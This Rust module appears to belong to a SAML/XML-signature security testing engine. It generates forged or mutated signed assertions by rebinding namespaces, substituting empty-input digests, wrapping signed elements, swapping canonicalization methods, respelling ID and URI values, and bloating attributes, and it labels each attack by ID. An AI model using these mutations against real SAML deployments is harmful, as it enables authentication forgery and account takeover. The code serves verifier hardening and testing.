//! Namespaces and what is inherited: A046 to A048, A051, A052, A057 to A059, A109.

use super::attacker::digest;
use super::forge::{Id, forged};
use super::names::{
    DS, EXCLUSIVE, INCLUSIVE, INCLUSIVE_11, SAML, SAMLP, SHA1, SHA256, SHA384, SHA512,
};
use super::tree::{Element, Path};
use super::{Engine, Signed};

pub(super) fn apply(engine: &mut Engine) {
    declarations(engine);
    for s in engine.signatures.clone() {
        void(engine, &s);
        rebound(engine, &s);
        inherited(engine, &s);
        inclusive(engine, &s);
        values(engine, &s);
    }
    bloat(engine);
}

/// Where a declaration may change the reading: root, signed element, signature, SignedInfo.
fn places(engine: &Engine) -> Vec<(&'static str, Path)> {
    let mut all = vec![("the root", engine.tree.root())];
    for s in &engine.signatures {
        all.push(("the signed element", s.target.clone()));
        all.push(("the signature", s.at.clone()));
        for local in ["SignedInfo", "SignatureValue"] {
            all.extend(engine.first(&s.at, DS, local).map(|p| (local, p)));
        }
    }
    for local in ["Assertion", "NameID"] {
        all.extend(engine.first(&[], SAML, local).map(|p| (local, p)));
    }
    all
}

fn declarations(engine: &mut Engine) {
    for (place, path) in places(engine) {
        for (name, value) in [
            ("xmlns:xml", "urn:evil"),
            ("xmlns:xmlns", "http://www.w3.org/2000/xmlns/"),
            ("xmlns:x", "http://www.w3.org/2000/xmlns/"),
            ("xmlns:x", "http://www.w3.org/XML/1998/namespace"),
            ("xmlns:x", ""),
            ("xmlns", "http://www.w3.org/XML/1998/namespace"),
            ("xmlns", "urn:evil"),
            ("xmlns", SAML),
            ("xmlns", ""),
            ("undeclared:x", "y"),
            ("xmlns:saml", "urn:evil"),
            ("xmlns:samlp", SAML),
            ("xmlns:ds", "urn:evil"),
        ] {
            engine.edit("A046", format!("{name}={value:?} on {place}"), |t| {
                t.element_mut(&path).set(name, value);
            });
        }
        for value in [
            "1",
            "a/b",
            "../x",
            "x y",
            "//evil.example",
            "#x",
            "?x",
            "%zz",
        ] {
            engine.edit("A047", format!("xmlns:example={value:?} on {place}"), |t| {
                t.element_mut(&path).set("xmlns:example", value);
            });
        }
        engine.edit("A046", format!("{place} under an undeclared prefix"), |t| {
            let element = t.element_mut(&path);
            element.name = format!("undeclared:{}", element.local());
        });
        engine.edit("A046", format!("{place} without prefix"), |t| {
            let element = t.element_mut(&path);
            element.name = element.local().to_owned();
        });
        engine.edit(
            "A046",
            format!("{place} under another prefix of its namespace"),
            |t| {
                let scope = t.scope(&path);
                let element = t.element_mut(&path);
                let namespace = scope.get(element.prefix()).cloned().unwrap_or_default();
                element.name = format!("other:{}", element.local());
                element.set("xmlns:other", &namespace);
            },
        );
    }
    // Signature elements that are none, and elements that become signatures.
    let octets = engine.original.replace(DS, "urn:evil").into_bytes();
    engine.octets("A046", "signatures in another namespace", octets);
    let octets = engine.original.replace(SAML, "urn:evil").into_bytes();
    engine.octets("A046", "assertions in another namespace", octets);
    let octets = engine.original.replace(SAML, SAMLP).into_bytes();
    engine.octets("A046", "assertions in the protocol's namespace", octets);
    let spelled = SAML.replace("SAML", "&#83;AML");
    engine.octets(
        "A046",
        "a namespace spelled by references",
        engine.original.replace(SAML, &spelled).into_bytes(),
    );
}

/// A canonicalization that gives nothing: the digest is that of no octets at all.
fn void(engine: &mut Engine, s: &Signed) {
    let Some(value) = engine.first(&s.at, DS, "DigestValue") else {
        return;
    };
    let method = engine.first(&s.at, DS, "DigestMethod");
    for uri in [SHA1, SHA256, SHA384, SHA512] {
        for (attack, namespace) in [("A048", None), ("A047", Some("1"))] {
            for is_forged in [false, true] {
                let what = format!("digest of nothing by {uri}, forged: {is_forged}");
                engine.edit(attack, what, |t| {
                    t.element_mut(&value).set_text(&digest(uri, b""));
                    if let Some(method) = &method {
                        t.element_mut(method).set("Algorithm", uri);
                    }
                    if is_forged {
                        let signature = t.element(&s.at).clone();
                        let mut evil = forged(&t.element(&s.target).clone(), Id::Same);
                        let at = s.at[s.at.len() - 1].min(evil.children.len());
                        evil.children.insert(at, signature.into());
                        t.replace(&s.target, evil);
                    }
                    if let Some(namespace) = namespace {
                        let root = t.root();
                        t.element_mut(&root).set("xmlns:example", namespace);
                    }
                });
            }
        }
    }
}

/// Wrappers that rebind the prefixes of what is inside.
fn rebound(engine: &mut Engine, s: &Signed) {
    let exchanged = format!("xmlns:saml=\"{SAMLP}\" xmlns:samlp=\"{SAML}\"");
    for (what, attributes) in [
        ("saml elsewhere", "xmlns:saml=\"urn:evil\""),
        ("saml and samlp exchanged", exchanged.as_str()),
        (
            "ds elsewhere",
            "xmlns:ds=\"urn:evil\" xmlns:dsig=\"urn:evil\"",
        ),
        ("another default", "xmlns=\"urn:evil\""),
        ("an empty default", "xmlns=\"\""),
    ] {
        let wrapper = Element::parse(&format!("<w {attributes}/>"));
        for root in [false, true] {
            let path = if root {
                engine.tree.root()
            } else {
                s.target.clone()
            };
            let what = format!("a wrapper with {what} around, the root: {root}");
            engine.edit("A058", what, |t| {
                let mut outer = wrapper.clone();
                outer.children.push(t.element(&path).clone().into());
                t.replace(&path, outer);
            });
        }
        engine.edit("A058", format!("the signature says {what}"), |t| {
            let element = t.element_mut(&s.at);
            for a in &wrapper.attributes {
                if element.attribute(&a.name).is_none() {
                    element.set(&a.name, &a.value);
                }
            }
        });
    }
}

fn inherited(engine: &mut Engine, s: &Signed) {
    let mut around: Vec<(&str, Path)> = vec![("the signed element", s.target.clone())];
    around.push(("the root", engine.tree.root()));
    for (place, path) in around {
        for (name, value) in [
            ("xml:base", "http://evil.example/"),
            ("xml:lang", "en"),
            ("xml:space", "preserve"),
            ("xml:id", "_xml"),
        ] {
            engine.edit("A059", format!("{name} on {place}"), |t| {
                t.element_mut(&path).set(name, value);
            });
            engine.edit("A059", format!("{name} around {place}"), |t| {
                let mut outer = Element::parse("<w/>");
                outer.set(name, value);
                outer.children.push(t.detached(&path).into());
                t.replace(&path, outer);
            });
        }
    }
}

/// Other canonicalizations, alone and with another context, and lists of prefixes.
fn inclusive(engine: &mut Engine, s: &Signed) {
    let mut methods = engine.inside(&s.at, DS, "CanonicalizationMethod");
    methods.extend(engine.inside(&s.at, DS, "Transform").into_iter().skip(1));
    for method in methods {
        for uri in [INCLUSIVE, INCLUSIVE_11, EXCLUSIVE] {
            engine.edit("A051", format!("{uri} in the place of the method"), |t| {
                t.element_mut(&method).set("Algorithm", uri);
                t.element_mut(&method).children.clear();
            });
            engine.edit("A051", format!("{uri} and another context"), |t| {
                t.element_mut(&method).set("Algorithm", uri);
                let mut outer = Element::parse("<w xmlns:evil=\"urn:evil\" xml:lang=\"en\"/>");
                outer.children.push(t.detached(&s.target).into());
                t.replace(&s.target, outer);
            });
        }
        let many: Vec<String> = (0..5_000).map(|n| format!("p{n}")).collect();
        for list in [
            "#default",
            "",
            "unbound",
            "saml samlp ds xs #default",
            "a,b",
            "xml xmlns",
            &many.join(" "),
        ] {
            let short: String = list.chars().take(30).collect();
            engine.edit("A052", format!("a PrefixList {short:?}"), |t| {
                let own = format!(
                    "<ec:InclusiveNamespaces xmlns:ec=\"{EXCLUSIVE}\" PrefixList=\"{list}\"/>"
                );
                t.element_mut(&method).children = vec![Element::parse(&own).into()];
            });
            engine.edit("A052", format!("a second PrefixList {short:?}"), |t| {
                let own = format!(
                    "<ec:InclusiveNamespaces xmlns:ec=\"{EXCLUSIVE}\" PrefixList=\"{list}\"/>"
                );
                t.element_mut(&method)
                    .children
                    .push(Element::parse(&own).into());
            });
        }
        engine.edit("A052", "no PrefixList, extra declarations", |t| {
            t.element_mut(&method).children.clear();
            t.element_mut(&s.target).set("xmlns:evil", "urn:evil");
        });
    }
}

/// Spellings of values that XML makes equal, and those that it does not.
fn values(engine: &mut Engine, s: &Signed) {
    let reference = engine.first(&s.at, DS, "Reference");
    let mut places = vec![(s.target.clone(), "ID"), (s.target.clone(), "Destination")];
    places.extend(reference.map(|r| (r, "URI")));
    if let Some(data) = engine.first(&s.target, SAML, "SubjectConfirmationData") {
        places.push((data, "Recipient"));
    }
    for (path, name) in places {
        let Some(value) = engine
            .tree
            .element(&path)
            .attribute(name)
            .map(str::to_owned)
        else {
            continue;
        };
        let Some(first) = value.chars().next() else {
            continue;
        };
        let rest = &value[first.len_utf8()..];
        let reference = format!("&#x{:x};{rest}", u32::from(first));
        for other in [
            reference,
            format!("\n{value}"),
            format!("{value}\n"),
            format!("{value}\t"),
            format!("{value}&#10;"),
            format!("{value}&#9;"),
            format!("{value}&#32;"),
            format!(" {value}"),
            format!("{value}\u{200b}"),
            value.to_uppercase(),
            value.to_lowercase(),
        ] {
            engine.edit("A057", format!("{name}={other:?}"), |t| {
                t.element_mut(&path).set(name, &other);
            });
        }
    }
}

fn bloat(engine: &mut Engine) {
    let root = engine.tree.root();
    for number in [300, 1_000] {
        engine.edit("A109", format!("{number} attributes"), |t| {
            let element = t.element_mut(&root);
            (0..number).for_each(|n| element.set(&format!("a{n}"), "x"));
        });
        engine.edit("A109", format!("{number} declarations"), |t| {
            let element = t.element_mut(&root);
            (0..number).for_each(|n| element.set(&format!("xmlns:p{n}"), &format!("urn:{n}")));
        });
    }
}
